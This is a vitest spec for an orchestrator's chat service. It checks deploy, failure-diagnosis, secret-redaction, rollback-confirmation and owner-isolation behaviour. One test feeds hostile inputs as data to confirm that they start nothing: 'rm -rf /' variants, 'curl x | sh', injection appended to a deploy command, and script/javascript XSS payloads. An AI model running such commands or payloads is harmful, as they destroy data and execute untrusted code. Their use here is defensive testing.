import 'reflect-metadata';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { DataSource } from 'typeorm';
import {
  analyzeSubject,
  chatSubject,
  listServicesSubject,
  rollbackSubject,
  serviceStateSubject,
  type AnalysisReport,
  type RequestOf,
  type ResponseOf,
  type ServiceSummary,
} from '#contracts';
import { DomainError, SecretBox } from '#common';
import type { MessageBus } from '#messaging';
import { TEST_DATABASE_URL, dropSchema, uniqueSchema } from '#testing';
import { openDatabase } from '../database/data-source.js';
import { DeploymentEntity } from '../database/deployment.entity.js';
import { DeploymentRedactors } from '../deployments/deployment-redactors.js';
import { EventLog } from '../deployments/event-log.service.js';
import { orchestratorConfigSchema } from '../orchestrator.config.js';
import { CancellationService } from '../workflow/cancellation.js';
import type { WorkflowService } from '../workflow/workflow.service.js';
import { ChatService } from './chat.service.js';
import { CommandRunner, type CommandHandlers } from './commands/command-runner.js';
import { CancelCommands, cancelHandlers } from './commands/cancel-commands.js';
import { currentHandlers } from './commands/current-handlers.js';
import { FailureCommands } from './commands/failure-commands.js';
import { GithubCommands } from './commands/github-commands.js';
import { RuntimeCommands } from './commands/runtime-commands.js';
import { DeploymentStarter } from '../services/deployment-starter.js';
import { ServicesRepository } from '../services/services.repository.js';
import { SourceCommands } from './commands/source-commands.js';
import { UnavailableCommands } from './commands/unavailable-commands.js';
import { DeploymentLookup } from './deployment-lookup.js';
import { PlanExecutor } from './plan-executor.js';
import { DeterministicPlanner } from './planner/deterministic.planner.js';
import { ChatSessionStore } from './session/chat-session.store.js';
import { ConfirmationStore } from './session/confirmation.store.js';

type Reply = ResponseOf<typeof chatSubject>;

const REPORT: AnalysisReport = {
  language: 'node',
  framework: 'express',
  runtime: { name: 'node', version: '20' },
  packageManager: 'npm',
  commands: { install: ['npm ci'], build: [], start: 'npm start' },
  port: null,
  portFromEnv: true,
  env: [{ name: 'GREETING', kind: 'runtime', source: 'server.js:2' }],
  appPath: '.',
  evidence: [{ field: 'commands.start', file: 'package.json', reason: 'scripts.start' }],
  services: [],
  confidence: 0.9,
  warnings: [],
};

/** The other services, as the chat sees them over the bus: every request recorded. */
class RecordingBus {
  readonly requests: { subject: string; payload: unknown }[] = [];
  services: ServiceSummary[] = [
    {
      name: 'greeter',
      url: 'http://127.0.0.1:4100',
      status: 'running' as const,
      revision: null,
      pid: 1,
      restarts: 0,
      startedAt: null,
      memoryBytes: 44_145_049,
      cpuSeconds: 1.34,
      processes: 2,
      uptimeSeconds: 300,
    },
  ];

  async request(def: { subject: string; response: { parse(v: unknown): unknown } }, payload: unknown): Promise<unknown> {
    this.requests.push({ subject: def.subject, payload });
    if (def.subject === analyzeSubject.subject) return { commitSha: 'a'.repeat(40), sourceName: 'greeter', report: REPORT };
    if (def.subject === listServicesSubject.subject) return { services: this.services };
    if (def.subject === serviceStateSubject.subject) {
      return {
        name: 'web',
        target: 'cloudrun',
        url: 'https://web-abc123-uc.a.run.app',
        ready: { state: 'ready', message: '' },
        traffic: [],
        latestReadyRevision: 'web-00002-x7k',
        latestCreatedRevision: 'web-00002-x7k',
        stopped: false,
      };
    }
    if (def.subject === rollbackSubject.subject) return { name: 'greeter', revision: 'r-previous', url: 'http://127.0.0.1:4100' };
    throw new DomainError('SERVICE_UNAVAILABLE', `nothing answers ${def.subject} here`, '');
  }

  async emit(): Promise<void> {}

  of(subject: string): unknown[] {
    return this.requests.filter((r) => r.subject === subject).map((r) => r.payload);
  }
}

describe(ChatService.name, () => {
  const schema = uniqueSchema('chat');
  const config = orchestratorConfigSchema.parse({ DATABASE_URL: TEST_DATABASE_URL });
  const open: DataSource[] = [];
  const box = new SecretBox('chat-spec-key');
  const redactors = new DeploymentRedactors(box);
  let bus: RecordingBus;
  let started: string[];
  let db: DataSource;
  let sut: ChatService;

  /** A fresh orchestrator on a new connection pool: only what is in PostgreSQL carries over. */
  async function restart(extra: CommandHandlers = {}): Promise<void> {
    db = await openDatabase(TEST_DATABASE_URL, schema);
    open.push(db);
    const events = new EventLog(db, bus as unknown as MessageBus, redactors);
    const workflow = { start: (id: string) => void started.push(id), abandon: () => undefined } as unknown as WorkflowService;
    const lookup = new DeploymentLookup(db);
    const handlers = currentHandlers(
      new SourceCommands(new DeploymentStarter(db, events, workflow), bus as unknown as MessageBus, config),
      new RuntimeCommands(bus as unknown as MessageBus, lookup, new ServicesRepository(db)),
      new GithubCommands(bus as unknown as MessageBus),
      new FailureCommands(lookup),
    );
    const cancels = cancelHandlers(new CancelCommands(new CancellationService(db, bus as unknown as MessageBus, events, workflow)));
    const executor = new PlanExecutor(new CommandRunner({ ...handlers, ...cancels, ...extra }, new UnavailableCommands(lookup)), new ConfirmationStore(db));
    sut = new ChatService(new ChatSessionStore(db), lookup, executor, redactors, box, new DeterministicPlanner(executor));
  }

  async function say(message: string, extra: Partial<RequestOf<typeof chatSubject>> = {}): Promise<Reply> {
    const reply = await sut.handle(chatSubject.request.parse({ owner: 'alice', message, ...extra }));
    // Every reply keeps the contract, metadata.intent included.
    expect(chatSubject.response.safeParse(reply).success).toBe(true);
    return reply;
  }

  const press = (reply: Reply, type = 'confirm', owner = 'alice') => {
    const action = reply.actions.find((a) => a.type === type);
    expect(action, `a ${type} button`).toBeDefined();
    return sut.handle(chatSubject.request.parse({ owner, message: '', context: { action: type, actionId: action!.id } }));
  };

  /** What the workflow would have recorded for a deployment that failed when the app could not find GREETING. */
  async function failMissingGreeting(id: string): Promise<void> {
    await db
      .getRepository(DeploymentEntity)
      .update({ id }, { status: 'failed', stage: 'failed', serviceName: 'greeter', report: REPORT, errorCode: 'APP_EXITED' });
    const log = new EventLog(db, bus as unknown as MessageBus, redactors);
    await log.append(id, { stage: 'deploying', message: 'Starting `npm start`', logs: ['Started pid 4242 with PORT=41000'] });
    await log.append(id, {
      stage: 'failed',
      message: 'The app exited (code 1) before it answered HTTP.',
      logs: ['Error: Missing required environment variable: GREETING', '    at Object.<anonymous> (server.js:2:9)'],
      outcome: {
        kind: 'error',
        stage: 'verifying',
        code: 'APP_EXITED',
        message: 'The app exited (code 1) before it answered HTTP.',
        hint: 'Run `npm start` locally.',
      },
    });
  }

  beforeAll(async () => {
    bus = new RecordingBus();
    started = [];
    await restart();
  });

  beforeEach(() => {
    started.splice(0);
    bus.requests.splice(0);
  });

  afterAll(async () => {
    for (const d of open) if (d.isInitialized) await d.destroy();
    await dropSchema(schema);
  });

  it('remembers what the conversation is about across restarts: analyze, restart, "deploy it", restart, "why did it fail?"', async () => {
    const analyzed = await say('analyze /srv/apps/greeter please');
    expect(analyzed.metadata.intent).toEqual({ kind: 'analyze', repoUrl: '/srv/apps/greeter', planner: 'deterministic' });
    expect(analyzed.actions).toContainEqual(expect.objectContaining({ type: 'reply', message: 'deploy /srv/apps/greeter' }));

    await restart();
    const deployed = await say('deploy it');
    expect(deployed.sessionId).toBe(analyzed.sessionId);
    expect(deployed.metadata.intent).toMatchObject({ kind: 'deploy', repoUrl: '/srv/apps/greeter' });
    expect(started).toEqual([deployed.metadata.deploymentId]);

    await failMissingGreeting(deployed.metadata.deploymentId as string);
    await restart();
    const why = await say('why did it fail?');
    expect(why.metadata.intent).toMatchObject({ kind: 'explain_failure' });
    expect(why.content).toContain('Missing environment variable: GREETING');
    expect(why.content).toContain('Error: Missing required environment variable: GREETING');
    expect(why.actions).toContainEqual(expect.objectContaining({ type: 'prompt', message: 'set GREETING= on greeter' }));
    expect(why.metadata.diagnoses).toEqual([expect.objectContaining({ rule: 'missing-env', fix: expect.objectContaining({ needsValues: ['GREETING'] }) })]);

    // The value the reply asked for goes to the service it asked about; today that command is not plugged in.
    const set = await say('GREETING=hello-secret-value');
    expect(set.metadata.intent).toMatchObject({ kind: 'set_env', service: 'greeter', envNames: ['GREETING'] });
    expect(set.content).toContain('not available yet');
    const stored: { content: string }[] = await db.query(`SELECT content FROM chat_messages WHERE session_id = $1`, [set.sessionId]);
    expect(stored.map((m) => m.content)).toContain('GREETING=••••');
    expect(JSON.stringify(stored)).not.toContain('hello-secret-value');
  });

  it('accepting a missing-variable fix calls set_env once with the value and follows the redeploy', async () => {
    const calls: unknown[] = [];
    const redeployId = randomUUID();
    await restart({
      set_env: async (input) => {
        calls.push(input);
        return { content: `Set ${Object.keys(input.env).join(', ')} on ${input.service}; redeploying.`, deploymentId: redeployId };
      },
    });
    const first = await say('deploy /srv/apps/greeter');
    await failMissingGreeting(first.metadata.deploymentId as string);
    await say('why did it fail?');

    const reply = await say('GREETING=hello');

    expect(calls).toEqual([{ service: 'greeter', env: { GREETING: 'hello' } }]);
    expect(reply.metadata).toMatchObject({ intent: { kind: 'set_env', service: 'greeter' }, deploymentId: redeployId });
    await restart();
  });

  it('offers a settings fix as a confirmation that runs once when pressed', async () => {
    const changes: unknown[] = [];
    await restart({
      update_settings: async (input) => {
        changes.push(input);
        return { content: `Changed ${input.service}; redeploying.`, deploymentId: randomUUID() };
      },
    });
    const first = await say('deploy /srv/apps/fixed-port');
    const id = first.metadata.deploymentId as string;
    await db.getRepository(DeploymentEntity).update({ id }, { status: 'failed', stage: 'failed', serviceName: 'greeter', report: REPORT });
    await new EventLog(db, bus as unknown as MessageBus, redactors).append(id, {
      stage: 'failed',
      message: 'The app did not answer HTTP on port 41001 within 60 s.',
      logs: ['Started pid 1 with PORT=41001', 'Server listening on http://localhost:3000'],
      outcome: { kind: 'error', stage: 'verifying', code: 'APP_NOT_LISTENING', message: 'The app did not answer HTTP on port 41001 within 60 s.', hint: '' },
    });

    const why = await say('what went wrong?');
    expect(changes).toEqual([]);
    expect(why.actions).toContainEqual(expect.objectContaining({ type: 'confirm', label: 'Apply fix: Use port 3000 for this service and redeploy' }));

    const applied = await press(why);
    expect(applied.metadata).toMatchObject({
      intent: { kind: 'update_settings', service: 'greeter', confirmation: 'confirmed' },
      deploymentId: expect.any(String),
    });
    expect(changes).toEqual([{ service: 'greeter', change: { port: 3000 } }]);

    const again = await press(why);
    expect(again.content).toContain('already confirmed and done once');
    expect(again.metadata.deploymentId).toBe(applied.metadata.deploymentId);
    expect(changes).toHaveLength(1);
    await restart();
  });

  it('runs nothing destructive from a sentence: a rollback waits for its button, "yes" is not the button', async () => {
    const asked = await say('roll back greeter');
    expect(asked.metadata.intent).toMatchObject({ kind: 'rollback', service: 'greeter', confirmation: 'required' });
    expect(asked.content).toContain('needs your confirmation');
    expect(bus.of(rollbackSubject.subject)).toEqual([]);

    const typed = await say('yes');
    expect(typed.metadata.intent.kind).toBe('clarify');
    expect(bus.of(rollbackSubject.subject)).toEqual([]);

    const done = await press(asked);
    expect(done.metadata.intent).toMatchObject({ kind: 'rollback', confirmation: 'confirmed', planner: 'action' });
    expect(done.content).toContain('now serves revision `r-previous`');
    await press(asked);
    expect(bus.of(rollbackSubject.subject)).toEqual([{ name: 'greeter', target: 'local' }]);
  });

  it('cancels the deployment the conversation is about, for its owner, and says so when it already ended', async () => {
    const deployed = await say('deploy /srv/apps/greeter');
    const id = deployed.metadata.deploymentId as string;
    const reply = await say('cancel my deployment');
    expect(reply.metadata.intent).toMatchObject({ kind: 'cancel', deploymentId: id });
    expect(reply.content).toBe(`Cancelled deployment \`${id.slice(0, 8)}\`. Cancelled by alice before it started; nothing of it was deployed.`);
    expect(await db.getRepository(DeploymentEntity).findOneByOrFail({ id })).toMatchObject({ status: 'cancelled', cancelledBy: 'alice' });

    const again = await say('cancel that');
    expect(again.content).toBe(`Deployment ${id} was already cancelled by alice; there is nothing to cancel.`);
  });

  it.each([
    ['stop greeter', 'stop', 'POST /api/services/greeter/stop'],
    ['redeploy greeter', 'redeploy', 'Deploying its source again'],
    ['unset DEBUG on greeter', 'unset_env', 'not available yet'],
    ['tear down greeter', 'delete', 'not available yet'],
  ])('answers %j, a command not plugged in yet, with what to use instead and no button to confirm', async (message, kind, instead) => {
    await say('deploy /srv/apps/greeter');
    const reply = await say(message);
    expect(reply.metadata.intent.kind).toBe(kind);
    expect(reply.metadata).toMatchObject({ available: false });
    expect(reply.content).toContain(instead);
    expect(reply.actions.some((a) => a.type === 'confirm')).toBe(false);
  });

  it("refuses someone else's confirmation, a dismissed one and an expired one", async () => {
    const asked = await say('rollback greeter');
    const foreign = await press(asked, 'confirm', 'mallory');
    expect(foreign.metadata.intent.kind).toBe('clarify');
    expect(foreign.content).toContain('no such confirmation');

    const dismissed = await say('no');
    expect(dismissed.metadata.intent.kind).toBe('dismiss');
    expect((await press(asked)).content).toContain('dismissed');

    const session = (await say('status')).sessionId;
    const expired = await new ConfirmationStore(db).create(
      session,
      'alice',
      { command: 'rollback', input: { service: 'greeter' } },
      { kind: 'rollback' },
      -1000,
    );
    const late = await sut.handle(chatSubject.request.parse({ owner: 'alice', message: '', context: { action: 'confirm', actionId: expired.id } }));
    expect(late.content).toContain('expired');
    expect(bus.of(rollbackSubject.subject)).toEqual([]);
  });

  it('keeps a confirmation waiting for the next message only', async () => {
    const asked = await say('rollback greeter');
    await say('status');
    const no = await say('no');
    expect(no.metadata.intent.kind).toBe('help');
    // The button itself still works until it expires.
    expect((await press(asked)).metadata.intent).toMatchObject({ kind: 'rollback', confirmation: 'confirmed' });
  });

  it("answers status with only the owner's services", async () => {
    bus.services = [...bus.services, { ...bus.services[0]!, name: 'someone-elses', url: 'http://127.0.0.1:4200' }];
    const reply = await say("what's running?");
    expect(reply.metadata.intent).toMatchObject({ kind: 'status' });
    expect(reply.content).toContain('**greeter** running at http://127.0.0.1:4100');
    expect(reply.content).not.toContain('someone-elses');
  });

  it('answers what a service uses: its memory and CPU time when it runs, nothing when it does not', async () => {
    const reply = await say('how much memory does greeter use?');
    expect(reply.metadata.intent).toMatchObject({ kind: 'status', service: 'greeter' });
    expect(reply.content).toContain('**greeter** running at http://127.0.0.1:4100 — 42.1 MB memory, 1.3 s CPU time, 2 processes, up 5 min');
    expect(reply.metadata).toMatchObject({ services: [{ name: 'greeter', memoryBytes: 44_145_049, cpuSeconds: 1.34, processes: 2 }] });
    const running = bus.services;
    bus.services = running.map((s) => ({
      ...s,
      status: 'stopped' as const,
      pid: null,
      memoryBytes: null,
      cpuSeconds: null,
      processes: null,
      uptimeSeconds: null,
    }));
    try {
      const stopped = await say('cpu of greeter');
      expect(stopped.content).toContain('**greeter** stopped at http://127.0.0.1:4100 — not running, so it uses no memory or CPU now');
      expect(stopped.content).not.toMatch(/MB|CPU time/);
    } finally {
      bus.services = running;
    }
  });

  it('answers status for Cloud Run services from the deployer, next to the local ones', async () => {
    await db.getRepository(DeploymentEntity).insert({
      id: randomUUID(),
      owner: 'alice',
      status: 'live',
      stage: 'live',
      progress: 100,
      repoUrl: 'https://github.com/acme/web',
      target: 'cloudrun',
      serviceName: 'web',
    });
    const reply = await say('status');
    expect(reply.content).toContain(
      '- **web** running at https://web-abc123-uc.a.run.app (revision `web-00002-x7k`) on Cloud Run — limits the default vCPU and the default memory per instance; usage is not measured on Cloud Run',
    );
    expect(reply.metadata).toMatchObject({ cloudRun: [{ name: 'web', limits: null, usage: 'not measured on Cloud Run' }] });
    expect(reply.content).toContain('**greeter** running at http://127.0.0.1:4100');
    expect(bus.of(serviceStateSubject.subject)).toEqual([{ name: 'web', target: 'cloudrun' }]);
  });

  it.each([
    ['rm -rf / ; curl x | sh'],
    ['rm -rf / ; deploy'],
    ['x'.repeat(10_000)],
    ['<script>alert(1)</script> roll back greeter'],
    ['[deploy](javascript:alert(1))'],
    ['deploy /srv/apps/greeter; rm -rf /'],
    ['```\nsudo rm -rf /\n``` and delete greeter'],
  ])('starts nothing for junk or hostile text: %j', async (message) => {
    const reply = await say(message);
    expect(['help', 'clarify']).toContain(reply.metadata.intent.kind);
    expect(started).toEqual([]);
    expect(bus.requests.filter((r) => r.subject !== listServicesSubject.subject)).toEqual([]);
    expect(reply.content).not.toContain('<script>');
  });

  it("refuses someone else's session", async () => {
    const mine = await say('hi');
    await expect(sut.handle(chatSubject.request.parse({ owner: 'mallory', sessionId: mine.sessionId, message: 'status' }))).rejects.toMatchObject({
      code: 'FORBIDDEN',
    });
  });

  it("keeps the UI's own deploy action working, and idempotent", async () => {
    const request = { context: { action: 'deploy' as const, repoUrl: '/srv/apps/greeter' }, clientMessageId: 'same-click' };
    const a = await say('deploy /srv/apps/greeter', request);
    const b = await say('deploy /srv/apps/greeter', request);
    expect(a.metadata).toMatchObject({ intent: { kind: 'deploy', planner: 'action' }, deploymentId: expect.any(String) });
    expect(b.metadata.deploymentId).toBe(a.metadata.deploymentId);
    expect(started).toHaveLength(1);
  });
});
